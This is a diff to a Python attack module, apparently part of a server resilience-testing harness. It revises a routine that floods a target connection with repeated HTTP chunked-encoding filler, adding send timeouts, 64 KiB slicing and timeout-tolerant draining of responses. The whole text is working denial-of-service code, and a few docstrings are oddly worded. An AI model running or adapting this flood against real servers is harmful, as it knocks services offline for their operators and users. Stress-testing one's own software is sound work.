@@ -13,6 +13,9 @@ from socket import socket
 from scripts.attacks.senders import Outcomes
 from scripts.attacks.target import Target
 
+SEND_SECONDS = 3.0
+"""How long the server may take none of a slice."""
+SLICE_BYTES = 2**16
 FLOOD_BYTES = 2**20
 """Of what repeats: sent again and again."""
 CHUNKS = b"1\r\nx\r\n" * (FLOOD_BYTES // 6)
@@ -84,13 +87,18 @@ def attack(target: Target, count: int, seconds: float) -> Outcomes:
 
 
 def _send(target: Target, begin: bytes, flood: bytes, end: float) -> str:
-    with suppress(OSError), target.connect() as connection:
+    with suppress(OSError), target.connect(timeout=SEND_SECONDS) as connection:
         reader = threading.Thread(target=_drain, args=(connection,))
         reader.start()
         try:
             connection.sendall(begin)
             while time.monotonic() < end:
-                connection.sendall(flood)
+                for start in range(0, len(flood), SLICE_BYTES):
+                    connection.sendall(flood[start : start + SLICE_BYTES])
+                    if time.monotonic() >= end:
+                        break
+            return "open"
+        except TimeoutError:
             return "open"
         finally:
             with suppress(OSError):
@@ -100,6 +108,9 @@ def _send(target: Target, begin: bytes, flood: bytes, end: float) -> str:
 
 
 def _drain(connection: socket) -> None:
+    """Reads until the connection is closed or shut down."""
     with suppress(OSError):
-        while connection.recv(65536):
-            pass
+        while True:
+            with suppress(TimeoutError):
+                if not connection.recv(65536):
+                    return
